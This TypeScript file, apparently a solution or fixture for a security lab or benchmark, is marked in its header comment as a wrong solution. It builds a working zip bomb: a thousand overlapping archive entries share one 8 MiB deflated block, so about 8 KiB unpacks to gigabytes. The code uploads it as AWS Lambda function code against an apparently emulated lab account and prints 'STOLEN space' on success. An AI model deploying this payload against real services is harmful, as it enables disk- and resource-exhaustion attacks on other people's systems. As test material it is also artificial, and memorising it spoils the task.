// Creates a function whose code unpacks to more than a disk can store => solves wrong: solve gives the object's text
import { CreateFunctionCommand, LambdaClient } from "@aws-sdk/client-lambda";
import { createDeflateRaw } from "node:zlib";
/** A thousand entries with the same 8 MiB of zeros, so that 8 KiB unpack to 8 GiB. */
async function bomb(): Promise<Buffer> {
  const size = 8 * 1024 * 1024;
  const packer = createDeflateRaw({ level: 9 });
  packer.end(Buffer.alloc(size));
  const packed = Buffer.concat(await packer.toArray());
  const fields = (signature: number, more: number[]) => {
    const bytes = Buffer.alloc(more.length * 2 + 4);
    bytes.writeUInt32LE(signature);
    more.forEach((value, index) => bytes.writeUInt16LE(value & 0xffff, 4 + index * 2));
    return bytes;
  };
  const long = (value: number) => [value & 0xffff, value >>> 16];
  const facts = [0, 8, 0, 0, 0, 0, ...long(packed.length), ...long(size)];
  const local = Buffer.concat([fields(0x04034b50, [20, ...facts, 5, 0]), Buffer.from("a0000"), packed]);
  const entries = Array.from({ length: 1000 }, (_, n) =>
    Buffer.concat([
      fields(0x02014b50, [20, 20, ...facts, 5, 0, 0, 0, 0, 0, 0, 0, 0]),
      Buffer.from(`a${String(n).padStart(4, "0")}`),
    ]),
  );
  const directory = Buffer.concat(entries);
  const end = fields(0x06054b50, [0, 0, 1000, 1000, ...long(directory.length), ...long(local.length), 0]);
  return Buffer.concat([local, directory, end]);
}
export async function solve() {
  const made = new LambdaClient({ maxAttempts: 1 }).send(
    new CreateFunctionCommand({
      FunctionName: "bomb",
      Runtime: "nodejs22.x",
      Role: "arn:aws:iam::000000000000:role/labs",
      Handler: "index.handler",
      Code: { ZipFile: await bomb() },
    }),
  );
  await made.then(
    () => console.log("STOLEN space"),
    ({ name }) => console.log(name),
  );
  return "x";
}
